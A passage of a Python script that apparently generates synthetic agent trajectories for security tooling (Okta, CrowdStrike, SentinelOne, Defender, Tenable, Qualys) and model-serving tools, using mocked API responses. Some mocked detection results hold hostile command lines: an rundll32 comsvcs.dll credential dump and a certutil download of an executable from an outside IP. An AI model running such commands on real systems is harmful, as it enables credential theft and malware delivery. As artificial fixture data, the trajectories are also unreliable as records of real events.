            f'{OK}/logs?since=2024-03-18T00:00:00Z&until=2024-03-19T00:00:00Z&filter=eventType eq "user.account.lock" and actor.alternateId eq "lena.ortiz@acme.com"',
        ),
        J(
            [
                okta_event(
                    "user.account.lock",
                    "lena.ortiz@acme.com",
                    "Max sign in attempts exceeded",
                    "SUCCESS",
                    "2024-03-18T08:05:02.000Z",
                )
            ]
        ),
    )

    s = S(
        "okta",
        True,
        2,
        "Offboard contractor j.whitfield@acme.com today: deactivate the account and kill any open sessions, then confirm it is done.",
    )
    uid = "00u" + h("whitfield", 17)
    s(
        "okta_api",
        http("GET", f"{OK}/users/j.whitfield@acme.com"),
        J(okta_user(uid, "j.whitfield@acme.com", "Jamie", "Whitfield", dept="Contractors")),
    )
    s(
        "okta_api",
        http("DELETE", f"{OK}/users/{uid}/sessions?oauthTokens=true"),
        "HTTP 204 No Content",
    )
    s("okta_api", http("POST", f"{OK}/users/{uid}/lifecycle/deactivate?sendEmail=false"), "{}")
    s(
        "okta_api",
        http("GET", f"{OK}/users/{uid}"),
        J(
            okta_user(
                uid, "j.whitfield@acme.com", "Jamie", "Whitfield", "DEPROVISIONED", "Contractors"
            )
        ),
    )
    s(
        "okta_api",
        http(
            "GET",
            f'{OK}/logs?since=2024-03-19T00:00:00Z&filter=target.id eq "{uid}"&sortOrder=DESCENDING&limit=5',
        ),
        J(
            [
                okta_event(
                    "user.lifecycle.deactivate",
                    "it.ops@acme.com",
                    "Deactivate Okta user",
                    "SUCCESS",
                    "2024-03-19T11:20:07.000Z",
                    target=[{"id": uid, "type": "User", "alternateId": "j.whitfield@acme.com"}],
                ),
                okta_event(
                    "user.session.clear",
                    "it.ops@acme.com",
                    "Clear user session",
                    "SUCCESS",
                    "2024-03-19T11:20:04.000Z",
                    target=[{"id": uid, "type": "User", "alternateId": "j.whitfield@acme.com"}],
                ),
            ]
        ),
    )

    s = S(
        "okta",
        False,
        1,
        "Find out who changed the Salesforce app's sign-on policy last week and from where.",
    )
    err = J(
        {
            "errorCode": "E0000011",
            "errorSummary": "Invalid token provided",
            "errorLink": "E0000011",
            "errorId": "oae" + h("e11", 19),
            "errorCauses": [],
        }
    )
    for q in [
        'filter=eventType eq "policy.lifecycle.update"',
        'filter=eventType eq "application.policy.sign_on.update"',
        "q=Salesforce",
        'filter=target.displayName eq "Salesforce.com"',
        "q=sign-on policy&since=2024-03-11T00:00:00Z",
        'filter=eventType sw "policy."&limit=50',
        'filter=eventType eq "policy.rule.update"',
        "q=Salesforce&since=2024-03-04T00:00:00Z",
    ]:
        s("okta_api", http("GET", f"{OK}/logs?{q}"), err)

    meta = lambda total, pb="msa-api": {
        "query_time": 0.0123,
        "pagination": {"offset": 0, "limit": 100, "total": total},
        "powered_by": pb,
        "trace_id": h(pb + str(total), 36),
    }
    s = S(
        "crowdstrike",
        True,
        1,
        "Was FIN-LT-0418 hit by anything in the last 48h? If there is a high severity detection, network-contain the host.",
    )
    did = h("fin-lt-0418", 32)
    s(
        "falcon",
        {"operation": "QueryDevicesByFilter", "filter": "hostname:'FIN-LT-0418'"},
        J({"meta": meta(1, "device-api"), "resources": [did], "errors": []}),
    )
    det = f"ldt:{did}:{int(h('det', 8), 16)}"
    s(
        "falcon",
        {
            "operation": "QueryDetects",
            "filter": f"device.device_id:'{did}'+created_timestamp:>'now-48h'",
        },
        J({"meta": meta(1), "resources": [det], "errors": []}),
    )
    s(
        "falcon",
        {"operation": "GetDetectSummaries", "ids": [det]},
        J(
            {
                "meta": meta(1),
                "resources": [
                    {
                        "detection_id": det,
                        "status": "new",
                        "max_severity_displayname": "High",
                        "max_severity": 70,
                        "behaviors": [
                            {
                                "tactic": "Credential Access",
                                "technique": "OS Credential Dumping",
                                "filename": "rundll32.exe",
                                "cmdline": "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
                                "user_name": "mhart",
                            }
                        ],
                        "device": {
                            "device_id": did,
                            "hostname": "FIN-LT-0418",
                            "platform_name": "Windows",
                        },
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {"operation": "PerformActionV2", "action_name": "contain", "ids": [did]},
        J({"meta": meta(1, "device-api"), "resources": [{"id": did, "path": ""}], "errors": []}),
    )
    s(
        "falcon",
        {"operation": "GetDeviceDetailsV2", "ids": [did]},
        J(
            {
                "meta": meta(1, "device-api"),
                "resources": [
                    {
                        "device_id": did,
                        "hostname": "FIN-LT-0418",
                        "status": "containment_pending",
                        "last_seen": "2024-03-19T10:41:22Z",
                        "local_ip": "10.40.8.77",
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {"operation": "GetDeviceDetailsV2", "ids": [did]},
        J(
            {
                "meta": meta(1, "device-api"),
                "resources": [
                    {
                        "device_id": did,
                        "hostname": "FIN-LT-0418",
                        "status": "contained",
                        "last_seen": "2024-03-19T10:42:05Z",
                        "local_ip": "10.40.8.77",
                    }
                ],
                "errors": [],
            }
        ),
    )

    s = S(
        "crowdstrike",
        True,
        2,
        "On host WEB-DMZ-02, check through RTR whether the nginx process is running and whether /tmp has any executables.",
    )
    did2 = h("web-dmz-02", 32)
    sid = h("rtr-sess", 36)
    s(
        "falcon",
        {"operation": "QueryDevicesByFilter", "filter": "hostname:'WEB-DMZ-02'"},
        J({"meta": meta(1, "device-api"), "resources": [did2], "errors": []}),
    )
    s(
        "falcon",
        {"operation": "RTR_InitSession", "device_id": did2},
        J(
            {
                "meta": meta(1, "real-time-response-api"),
                "resources": [
                    {
                        "session_id": sid,
                        "scripts": [],
                        "existing_aid_sessions": 0,
                        "created_at": "2024-03-19T12:01:10Z",
                        "pwd": "/",
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {
            "operation": "RTR_ExecuteActiveResponderCommand",
            "session_id": sid,
            "base_command": "ps",
            "command_string": "ps",
        },
        J(
            {
                "meta": meta(1, "real-time-response-api"),
                "resources": [
                    {
                        "session_id": sid,
                        "cloud_request_id": h("cr1", 36),
                        "queued_command_offline": False,
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {"operation": "RTR_CheckActiveResponderCommandStatus", "cloud_request_id": h("cr1", 36)},
        J(
            {
                "meta": meta(1, "real-time-response-api"),
                "resources": [
                    {
                        "session_id": sid,
                        "complete": True,
                        "stdout": "  PID COMMAND\n    1 systemd\n  612 sshd\n  901 nginx: master process /usr/sbin/nginx\n  902 nginx: worker process\n  903 nginx: worker process\n 1204 falcon-sensor",
                        "stderr": "",
                        "base_command": "ps",
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {
            "operation": "RTR_ExecuteActiveResponderCommand",
            "session_id": sid,
            "base_command": "ls",
            "command_string": "ls -la /tmp",
        },
        J(
            {
                "meta": meta(1, "real-time-response-api"),
                "resources": [
                    {
                        "session_id": sid,
                        "cloud_request_id": h("cr2", 36),
                        "queued_command_offline": False,
                    }
                ],
                "errors": [],
            }
        ),
    )
    s(
        "falcon",
        {"operation": "RTR_CheckActiveResponderCommandStatus", "cloud_request_id": h("cr2", 36)},
        J(
            {
                "meta": meta(1, "real-time-response-api"),
                "resources": [
                    {
                        "session_id": sid,
                        "complete": True,
                        "stdout": "total 8\ndrwxrwxrwt  2 root root 4096 Mar 19 11:58 .\ndrwxr-xr-x 19 root root 4096 Jan 30 09:12 ..",
                        "stderr": "",
                        "base_command": "ls",
                    }
                ],
                "errors": [],
            }
        ),
    )
    s("falcon", {"operation": "RTR_DeleteSession", "session_id": sid}, "HTTP 204 No Content")

    s = S(
        "crowdstrike",
        False,
        1,
        "List the Falcon detections from this week for the three Payroll laptops (PAY-LT-0101, PAY-LT-0102, PAY-LT-0107) and their status.",
    )
    for f in [
        "hostname:'PAY-LT-0101'",
        "hostname:'PAY-LT-0102'",
        "hostname:'PAY-LT-0107'",
        "hostname:*'PAY-LT*'",
        "platform_name:'Windows'",
    ]:
        s(
            "falcon",
            {"operation": "QueryDevicesByFilter", "filter": f},
            J({"meta": meta(0, "device-api"), "resources": [], "errors": []}),
        )
    s(
        "falcon",
        {"operation": "QueryDetects", "filter": "created_timestamp:>'now-7d'"},
        J({"meta": meta(0), "resources": [], "errors": []}),
    )
    s(
        "falcon",
        {"operation": "QueryDetects", "filter": "status:'new'"},
        J({"meta": meta(0), "resources": [], "errors": []}),
    )
    s(
        "falcon",
        {"operation": "QueryDevicesByFilter", "filter": "last_seen:>'now-1d'"},
        J({"meta": meta(0, "device-api"), "resources": [], "errors": []}),
    )

    S1 = "https://usea1-acme.sentinelone.net/web/api/v2.1"
    s = S(
        "sentinelone",
        True,
        1,
        "Are there unresolved SentinelOne threats on the engineering site? Mark any that were already mitigated as resolved.",
    )
    th = [
        {
            "id": str(1870000000000000000 + i),
            "threatInfo": {
                "threatName": n,
                "classification": c,
                "mitigationStatus": m,
                "incidentStatus": "unresolved",
                "analystVerdict": "undefined",
                "identifiedAt": f"2024-03-1{5 + i}T1{i}:02:33.120000Z",
            },
            "agentRealtimeInfo": {"agentComputerName": host, "siteName": "Engineering"},
        }
        for i, (n, c, m, host) in enumerate(
            [
                ("xmrig", "Malware", "mitigated", "ENG-WS-221"),
                ("setup_x64.exe", "PUA", "not_mitigated", "ENG-WS-048"),
                ("invoice.js", "Trojan", "mitigated", "ENG-LT-310"),
            ]
        )
    ]
    s(
        "s1_api",
        http("GET", f"{S1}/threats?siteIds=1456&incidentStatuses=unresolved&limit=2"),
        J({"data": th[:2], "pagination": {"nextCursor": h("cur1", 24), "totalItems": 3}}),
    )
    s(
        "s1_api",
        http(
            "GET",
            f"{S1}/threats?siteIds=1456&incidentStatuses=unresolved&limit=2&cursor={h('cur1', 24)}",
        ),
        J({"data": th[2:], "pagination": {"nextCursor": None, "totalItems": 3}}),
    )
    s(
        "s1_api",
        http(
            "POST",
            f"{S1}/threats/incident",
            {"filter": {"ids": [th[0]["id"], th[2]["id"]]}, "data": {"incidentStatus": "resolved"}},
        ),
        J({"data": {"affected": 2}}),
    )
    s(
        "s1_api",
        http(
            "POST",
            f"{S1}/threats/analyst-verdict",
            {
                "filter": {"ids": [th[0]["id"], th[2]["id"]]},
                "data": {"analystVerdict": "true_positive"},
            },
        ),
        J({"data": {"affected": 2}}),
    )
    s(
        "s1_api",
        http("GET", f"{S1}/threats?siteIds=1456&incidentStatuses=unresolved&countOnly=true"),
        J({"data": [], "pagination": {"nextCursor": None, "totalItems": 1}}),
    )

    s = S(
        "sentinelone",
        False,
        1,
        "Pull the SentinelOne agents that are out of date on the London site and the threats they had this month.",
    )
    e = J({"errors": [{"code": 4010010, "detail": None, "title": "Authentication Failed"}]})
    for p in [
        "agents?siteIds=2231&isUpToDate=false",
        "agents?siteIds=2231&isUpToDate=false&limit=100",
        "threats?siteIds=2231&createdAt__gte=2024-03-01T00:00:00Z",
        "sites?name=London",
        "agents?computerName__contains=LON",
        "threats?createdAt__gte=2024-03-01T00:00:00Z&limit=50",
        "agents/count?siteIds=2231",
    ]:
        s("s1_api", http("GET", f"{S1}/{p}"), e)

    s = S(
        "defender",
        True,
        1,
        "Did any device talk to 185.220.101.47 in the last 7 days, and did anyone run certutil to download files?",
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceNetworkEvents | where Timestamp > ago(7d) | where RemoteIP == '185.220.101.47' | project Timestamp, DeviceName, InitiatingProcessFileName, RemotePort"
        },
        J(
            {
                "Schema": [
                    {"Name": "Timestamp", "Type": "DateTime"},
                    {"Name": "DeviceName", "Type": "String"},
                    {"Name": "InitiatingProcessFileName", "Type": "String"},
                    {"Name": "RemotePort", "Type": "Int32"},
                ],
                "Results": [],
            }
        ),
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceNetworkEvents | where Timestamp > ago(7d) | where RemoteIP startswith '185.220.101.' | summarize count() by DeviceName, RemoteIP"
        },
        J(
            {
                "Schema": [
                    {"Name": "DeviceName", "Type": "String"},
                    {"Name": "RemoteIP", "Type": "String"},
                    {"Name": "count_", "Type": "Int64"},
                ],
                "Results": [],
            }
        ),
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceProcessEvents | where Timestamp > ago(7d) | where FileName =~ 'certutil.exe' and ProcessCommandLine has_any ('urlcache','-f http') | project Timestamp, DeviceName, AccountName, ProcessCommandLine"
        },
        J(
            {
                "Schema": [
                    {"Name": "Timestamp", "Type": "DateTime"},
                    {"Name": "DeviceName", "Type": "String"},
                    {"Name": "AccountName", "Type": "String"},
                    {"Name": "ProcessCommandLine", "Type": "String"},
                ],
                "Results": [
                    {
                        "Timestamp": "2024-03-17T22:41:09.3312Z",
                        "DeviceName": "hr-ws-112.corp.acme.com",
                        "AccountName": "svc_backup",
                        "ProcessCommandLine": "certutil.exe -urlcache -split -f http://45.137.21.9/a.txt C:\\ProgramData\\a.exe",
                    }
                ],
            }
        ),
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceFileEvents | where DeviceName == 'hr-ws-112.corp.acme.com' and FolderPath startswith 'C:\\\\ProgramData' and Timestamp > datetime(2024-03-17T22:40:00Z) | project Timestamp, FileName, SHA256 | take 10"
        },
        J(
            {
                "Schema": [
                    {"Name": "Timestamp", "Type": "DateTime"},
                    {"Name": "FileName", "Type": "String"},
                    {"Name": "SHA256", "Type": "String"},
                ],
                "Results": [
                    {
                        "Timestamp": "2024-03-17T22:41:11.0020Z",
                        "FileName": "a.exe",
                        "SHA256": h("a.exe", 64),
                    }
                ],
            }
        ),
    )

    s = S(
        "defender",
        True,
        2,
        "Which of our servers still have SMBv1 enabled? Use the Defender device inventory.",
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceTvmSecureConfigurationAssessment | where ConfigurationId == 'scid-2001' and IsCompliant == 0 | join kind=inner (DeviceInfo | where DeviceType == 'Server' | distinct DeviceId, DeviceName) on DeviceId | project DeviceName"
        },
        J(
            {
                "Schema": [{"Name": "DeviceName", "Type": "String"}],
                "Results": [
                    {"DeviceName": "fs-legacy-01.corp.acme.com"},
                    {"DeviceName": "scan-gw-02.corp.acme.com"},
                ],
            }
        ),
    )
    s(
        "defender_hunting",
        {
            "Query": "DeviceInfo | where DeviceName in ('fs-legacy-01.corp.acme.com','scan-gw-02.corp.acme.com') | summarize arg_max(Timestamp, OSPlatform, OSVersion) by DeviceName"
        },
        J(
            {
                "Schema": [
                    {"Name": "DeviceName", "Type": "String"},
                    {"Name": "Timestamp", "Type": "DateTime"},
                    {"Name": "OSPlatform", "Type": "String"},
                    {"Name": "OSVersion", "Type": "String"},
                ],
                "Results": [
                    {
                        "DeviceName": "fs-legacy-01.corp.acme.com",
                        "Timestamp": "2024-03-19T06:00:12Z",
                        "OSPlatform": "WindowsServer2012R2",
                        "OSVersion": "6.3",
                    },
                    {
                        "DeviceName": "scan-gw-02.corp.acme.com",
                        "Timestamp": "2024-03-19T05:58:40Z",
                        "OSPlatform": "WindowsServer2016",
                        "OSVersion": "10.0",
                    },
                ],
            }
        ),
    )
    s(
        "create_ticket",
        {
            "queue": "INFRA",
            "title": "Disable SMBv1 on fs-legacy-01 and scan-gw-02",
            "priority": "P3",
        },
        J({"key": "INFRA-2291", "status": "Open"}),
    )

    s = S(
        "defender",
        False,
        1,
        "Hunt for the Qakbot IOCs in the attached list (12 hashes) across all devices for the last 30 days.",
    )
    for i in range(9):
        s(
            "defender_hunting",
            {
                "Query": f"DeviceFileEvents | where Timestamp > ago(30d) | where SHA256 == '{h('qak' + str(i), 64)}' | project Timestamp, DeviceName, FolderPath"
            },
            J(
                {
                    "error": {
                        "code": "TooManyRequests",
                        "message": "Rate limit is exceeded. Try again in 3512 seconds.",
                        "target": h("tg" + str(i), 36),
                    }
                }
            ),
        )

    TN = "https://cloud.tenable.com"
    s = S(
        "tenable",
        True,
        1,
        "Export all critical vulnerabilities found on the DMZ assets since 1 March and give me counts per plugin.",
    )
    ex = h("tenable-export", 36)
    s(
        "tenable_api",
        http(
            "POST",
            f"{TN}/vulns/export",
            {
                "num_assets": 500,
                "filters": {
                    "severity": ["critical"],
                    "tag.Zone": ["DMZ"],
                    "first_found": 1709251200,
                },
            },
        ),
        J({"export_uuid": ex}),
    )
    s(
        "tenable_api",
        http("GET", f"{TN}/vulns/export/{ex}/status"),
        J(
            {
                "uuid": ex,
                "status": "PROCESSING",
                "chunks_available": [],
                "chunks_failed": [],
                "chunks_cancelled": [],
                "total_chunks": 0,
                "empty_chunks_count": 0,
                "finished_chunks": 0,
            }
        ),
    )
    s(
        "tenable_api",
        http("GET", f"{TN}/vulns/export/{ex}/status"),
        J(
            {
                "uuid": ex,
                "status": "FINISHED",
                "chunks_available": [1],
                "chunks_failed": [],
                "chunks_cancelled": [],
                "total_chunks": 1,
                "empty_chunks_count": 0,
                "finished_chunks": 1,
            }
        ),
    )
    vulns = [
        {
            "asset": {"hostname": hn, "ipv4": ip},
            "plugin": {"id": pid, "name": pn, "cvss3_base_score": sc},
            "severity": "critical",
            "state": "OPEN",
            "first_found": ff,
        }
        for hn, ip, pid, pn, sc, ff in [
            (
                "dmz-vpn-01",
                "203.0.113.10",
                190856,
                "Fortinet FortiOS Out-of-bounds Write (FG-IR-24-015)",
                9.8,
                "2024-03-09T04:12:00.000Z",
            ),
            (
                "dmz-web-03",
                "203.0.113.23",
                192226,
                "Apache Tomcat 9.0.x < 9.0.86 Multiple Vulnerabilities",
                9.1,
                "2024-03-14T04:20:00.000Z",
            ),
            (
                "dmz-web-04",
                "203.0.113.24",
                192226,
                "Apache Tomcat 9.0.x < 9.0.86 Multiple Vulnerabilities",
                9.1,
                "2024-03-14T04:31:00.000Z",
            ),
        ]
    ]
    s("tenable_api", http("GET", f"{TN}/vulns/export/{ex}/chunks/1"), J(vulns))

    QU = "https://qualysapi.qg2.apps.qualys.eu/api/2.0/fo/asset/host/vm/detection/"
    s = S(
        "qualys",
        True,
        1,
        "Is QID 38173 (SSL certificate signature weak) still detected on 10.20.4.15 after last night's fix?",
    )
    s(
        "qualys_api",
        http(
            "POST", QU, {"action": "list", "ips": "10.20.4.15", "qids": "38173", "show_results": 1}
        ),
        '<?xml version="1.0" encoding="UTF-8" ?>\n<!DOCTYPE HOST_LIST_VM_DETECTION_OUTPUT SYSTEM "https://qualysapi.qg2.apps.qualys.eu/api/2.0/fo/asset/host/vm/detection/host_list_vm_detection_output.dtd">\n'
        "<HOST_LIST_VM_DETECTION_OUTPUT>\n  <RESPONSE>\n    <DATETIME>2024-03-19T09:02:11Z</DATETIME>\n    <HOST_LIST>\n      <HOST>\n        <ID>112873041</ID>\n        <IP>10.20.4.15</IP>\n        <DNS><![CDATA[intranet-02.corp.acme.com]]></DNS>\n"
        "        <LAST_SCAN_DATETIME>2024-03-18T22:14:50Z</LAST_SCAN_DATETIME>\n        <DETECTION_LIST>\n          <DETECTION>\n            <QID>38173</QID>\n            <TYPE>Confirmed</TYPE>\n            <SEVERITY>2</SEVERITY>\n            <STATUS>Fixed</STATUS>\n"
        "            <FIRST_FOUND_DATETIME>2023-11-02T22:10:07Z</FIRST_FOUND_DATETIME>\n            <LAST_FOUND_DATETIME>2024-03-11T22:09:31Z</LAST_FOUND_DATETIME>\n            <LAST_FIXED_DATETIME>2024-03-18T22:14:50Z</LAST_FIXED_DATETIME>\n          </DETECTION>\n        </DETECTION_LIST>\n      </HOST>\n    </HOST_LIST>\n  </RESPONSE>\n</HOST_LIST_VM_DETECTION_OUTPUT>",
    )
    s(
        "qualys_api",
        http(
            "POST",
            QU,
            {
                "action": "list",
                "ips": "10.20.4.15",
                "status": "New,Active,Re-Opened",
                "severities": "4-5",
            },
        ),
        '<?xml version="1.0" encoding="UTF-8" ?>\n<!DOCTYPE HOST_LIST_VM_DETECTION_OUTPUT SYSTEM "https://qualysapi.qg2.apps.qualys.eu/api/2.0/fo/asset/host/vm/detection/host_list_vm_detection_output.dtd">\n'
        "<HOST_LIST_VM_DETECTION_OUTPUT>\n  <RESPONSE>\n    <DATETIME>2024-03-19T09:03:40Z</DATETIME>\n  </RESPONSE>\n</HOST_LIST_VM_DETECTION_OUTPUT>",
    )
    s(
        "update_ticket",
        {
            "key": "SEC-1187",
            "comment": "QID 38173 Fixed on 10.20.4.15 per scan 2024-03-18 22:14Z; no sev 4-5 open.",
            "status": "Resolved",
        },
        "Ticket SEC-1187 updated.",
    )

    s = S(
        "qualys",
        False,
        1,
        "Give me the open severity 5 detections for each of the 6 data-centre subnets so I can plan patching.",
    )
    for i, sub in enumerate(
        [
            "10.20.0.0/24",
            "10.20.1.0/24",
            "10.20.2.0/24",
            "10.20.3.0/24",
            "10.20.0.0/24",
            "10.20.4.0/24",
            "10.20.5.0/24",
        ]
    ):
        s(
            "qualys_api",
            http(
                "POST",
                QU,
                {"action": "list", "ips": sub, "severities": "5", "status": "New,Active,Re-Opened"},
            ),
            '<?xml version="1.0" encoding="UTF-8" ?>\n<!DOCTYPE SIMPLE_RETURN SYSTEM "https://qualysapi.qg2.apps.qualys.eu/api/2.0/simple_return.dtd">\n<SIMPLE_RETURN>\n  <RESPONSE>\n'
            f"    <DATETIME>2024-03-19T09:1{i}:0{i}Z</DATETIME>\n    <CODE>1960</CODE>\n    <TEXT>This API cannot be run again until 2 currently running instances have finished.</TEXT>\n"
            "    <ITEM_LIST>\n      <ITEM>\n        <KEY>CALLS_TO_FINISH</KEY>\n        <VALUE>2</VALUE>\n      </ITEM>\n    </ITEM_LIST>\n  </RESPONSE>\n</SIMPLE_RETURN>",
        )


# ---------------------------------------------------------------- model serving / feature stores
def serving() -> None:
    s = S(
        "triton",
        True,
        1,
        "Check the resnet50 model on the Triton box is ready, and measure its throughput at concurrency 4.",
    )
    s(
        "shell",
        sh("curl -s -o /dev/null -w '%{http_code}\\n' http://triton-a10:8000/v2/health/ready"),
        "200",
    )
    s(
        "shell",
        sh(
            "curl -s -o /dev/null -w '%{http_code}\\n' http://triton-a10:8000/v2/models/resnet50/ready"
        ),
        "200",
    )
    s(
        "shell",
        sh("curl -s http://triton-a10:8000/v2/models/resnet50"),
        J(
            {
                "name": "resnet50",
                "versions": ["3"],
                "platform": "onnxruntime_onnx",
                "inputs": [{"name": "input", "datatype": "FP32", "shape": [-1, 3, 224, 224]}],
                "outputs": [{"name": "output", "datatype": "FP32", "shape": [-1, 1000]}],
            }
        ),
    )
    s(
        "shell",
        sh("perf_analyzer -m resnet50 -u triton-a10:8001 -i grpc --concurrency-range 4 -b 8"),
        '*** Measurement Settings ***\n  Batch size: 8\n  Service Kind: Triton\n  Using "time_windows" mode for stabilization\n  Measurement window: 5000 msec\n  Using synchronous calls for inference\n  Stabilizing using average latency\n\n'
        "Request concurrency: 4\n  Client: \n    Request count: 2874\n    Throughput: 1277.33 infer/sec\n    Avg latency: 25011 usec (standard deviation 1422 usec)\n    p50 latency: 24870 usec\n    p90 latency: 26911 usec\n    p95 latency: 27604 usec\n    p99 latency: 29872 usec\n"
        "    Avg gRPC time: 24980 usec ((un)marshal request/response 512 usec + response wait 24468 usec)\n  Server: \n    Inference count: 22992\n    Execution count: 2874\n    Successful request count: 2874\n    Avg request latency: 23610 usec (overhead 41 usec + queue 9870 usec + compute input 1102 usec + compute infer 12391 usec + compute output 206 usec)\n\n"
        "Inferences/Second vs. Client Average Batch Latency\nConcurrency: 4, throughput: 1277.33 infer/sec, latency 25011 usec",
    )

    s = S(
        "triton",
        False,
        1,
        "The fraud model endpoint looks slow; check Triton health and the fraud_xgb model stats.",
    )
    for u in [
        "http://triton-fraud:8000/v2/health/ready",
        "http://triton-fraud:8000/v2/health/live",
        "http://triton-fraud:8000/v2/models/fraud_xgb/ready",
        "http://triton-fraud:8000/v2/models/fraud_xgb/stats",
        "http://triton-fraud:8002/metrics",
        "http://triton-fraud.ml.svc.cluster.local:8000/v2/health/ready",
        "http://triton-fraud:8000/v2",
    ]:
        host = u.split("//")[1].split("/")[0]
        hn, port = host.rsplit(":", 1)
        s(
            "shell",
            sh(f"curl -sS {u}"),
            f"curl: (7) Failed to connect to {hn} port {port} after 0 ms: Couldn't connect to server",
        )

    TS = "http://torchserve:8081"
    s = S(
        "torchserve",
        True,
        1,
        "Register the new bert_cls.mar on TorchServe with 2 workers and check it answers a test sentence.",
    )
    s(
        "http_request",
        http("POST", f"{TS}/models?url=bert_cls.mar&initial_workers=0&synchronous=false"),
        JI(
            {
                "status": 'Model "bert_cls" Version: 1.0 registered with 0 initial workers. Use scale workers API to add workers for the model.'
            }
        ),
    )
    s(
        "http_request",
        http("PUT", f"{TS}/models/bert_cls?min_worker=2&synchronous=false"),
        JI({"status": "Processing worker updates..."}),
    )
    s(
        "http_request",
        http("GET", f"{TS}/models/bert_cls"),
        JI(
            [
                {
                    "modelName": "bert_cls",
                    "modelVersion": "1.0",
                    "modelUrl": "bert_cls.mar",
                    "runtime": "python",
                    "minWorkers": 2,
                    "maxWorkers": 2,
                    "batchSize": 1,
                    "maxBatchDelay": 100,
                    "loadedAtStartup": False,
                    "workers": [
                        {
                            "id": "9000",
                            "startTime": "2024-03-19T10:14:02.114Z",
                            "status": "READY",
                            "memoryUsage": 1822310400,
                            "pid": 4411,
                            "gpu": True,
                            "gpuUsage": "gpuId::0 utilization.gpu [%]::0 % utilization.memory [%]::0 % memory.used [MiB]::1411 MiB",
                        },
                        {
                            "id": "9001",
                            "startTime": "2024-03-19T10:14:02.120Z",
                            "status": "READY",
                            "memoryUsage": 1822679040,
                            "pid": 4412,
                            "gpu": True,
                            "gpuUsage": "gpuId::0 utilization.gpu [%]::0 % utilization.memory [%]::0 % memory.used [MiB]::2822 MiB",
                        },
                    ],
                }
            ]
        ),
    )
    s(
        "http_request",
        http(
            "POST",
            "http://torchserve:8080/predictions/bert_cls",
            "The delivery was late and the box was damaged.",
        ),
        "negative",
    )
    s(
        "http_request",
        http(
            "POST",
            "http://torchserve:8080/predictions/bert_cls",
            "Great service, will order again.",
        ),
        "positive",
    )

    s = S(
        "torchserve",
        False,
        1,
        "Score these 8 customer reviews with the sentiment model on TorchServe and give me the split.",
    )
    for t in [
        "Arrived on time, works fine.",
        "Terrible, broke after a day.",
        "Okay for the price.",
        "Support never replied.",
        "Love it!",
        "Would not buy again.",
        "Decent quality.",
        "Packaging was awful but product good.",
    ]:
        s(
            "http_request",
            http("POST", "http://torchserve:8080/predictions/sentiment", t),
            JI(
                {
                    "code": 503,
                    "type": "ServiceUnavailableException",
                    "message": 'Model "sentiment" has no worker to serve inference request. Please use scale workers API to add workers. If this is a sequence inference, please check if it is closed, or expired; or exceeds maxSequenceJobQueueSize',
                }
            ),
        )

    s = S(
        "kserve",
        True,
        1,
        "Deploy the sklearn iris model from gs://models-ml/iris/v2 as an InferenceService in ns ml-serving and test a prediction.",
    )
    s(
        "shell",
        sh("kubectl apply -n ml-serving -f iris-isvc.yaml"),
        "inferenceservice.serving.kserve.io/sklearn-iris created",
    )
    s(
        "shell",
        sh("kubectl get isvc sklearn-iris -n ml-serving"),
        "NAME           URL   READY     PREV   LATEST   PREVROLLEDOUTREVISION   LATESTREADYREVISION   AGE\nsklearn-iris         Unknown                                                            6s",
    )
    s(
        "shell",
        sh("kubectl get isvc sklearn-iris -n ml-serving"),
        "NAME           URL   READY   PREV   LATEST   PREVROLLEDOUTREVISION   LATESTREADYREVISION   AGE\nsklearn-iris         False                                                          31s",
    )
    s(
        "shell",
        sh("kubectl get isvc sklearn-iris -n ml-serving"),
        "NAME           URL                                              READY   PREV   LATEST   PREVROLLEDOUTREVISION   LATESTREADYREVISION                    AGE\nsklearn-iris   http://sklearn-iris.ml-serving.example.com   True           100                              sklearn-iris-predictor-00001   74s",
    )
    s(
        "shell",
        sh(
            "curl -s -H 'Host: sklearn-iris.ml-serving.example.com' http://10.0.12.40/v1/models/sklearn-iris:predict -d '{\"instances\": [[6.8, 2.8, 4.8, 1.4], [6.0, 3.4, 4.5, 1.6]]}'"
        ),
        J({"predictions": [1, 1]}),
    )

    s = S(
        "kserve",
        True,
        2,
        "Roll out the v3 image of the churn model as a 10% canary and tell me whether the canary revision is ready.",
    )
    s(
        "shell",
        sh(
            'kubectl patch isvc churn -n ml-serving --type merge -p \'{"spec":{"predictor":{"canaryTrafficPercent":10,"model":{"storageUri":"gs://models-ml/churn/v3"}}}}\''
        ),
        "inferenceservice.serving.kserve.io/churn patched",
    )
    s(
        "shell",
        sh(
            "kubectl get isvc churn -n ml-serving -o jsonpath='{.status.components.predictor.traffic}'"
        ),
        J(
            [
                {
                    "latestRevision": False,
                    "percent": 100,
                    "revisionName": "churn-predictor-00004",
                    "tag": "prev",
                }
            ]
        ),
    )
    s(
        "shell",
        sh(
            "kubectl get isvc churn -n ml-serving -o jsonpath='{.status.components.predictor.traffic}'"
        ),
        J(
            [
                {
                    "latestRevision": True,
                    "percent": 10,
                    "revisionName": "churn-predictor-00005",
                    "tag": "latest",
                },
                {
                    "latestRevision": False,
                    "percent": 90,
                    "revisionName": "churn-predictor-00004",
                    "tag": "prev",
                },
            ]
        ),
    )
    s(
        "shell",
        sh("kubectl get revision churn-predictor-00005 -n ml-serving"),
        "NAME                    CONFIG NAME       K8S SERVICE NAME   GENERATION   READY   REASON   ACTUAL REPLICAS   DESIRED REPLICAS\nchurn-predictor-00005   churn-predictor                      5            True             1                 1",
    )

    s = S(
        "bentoml", True, 1, "Build a bento for the summarizer service and tell me its tag and size."
    )
    s(
        "shell",
        sh("bentoml list summarizer"),
        " Tag                          Size       Model Size  Creation Time\n summarizer:k3t2vzq4ocx5cgqn  14.21 KiB  1.58 GiB    2024-03-11 16:02:55",
    )
    s(
        "shell",
        sh("bentoml build -f bentofile.yaml"),
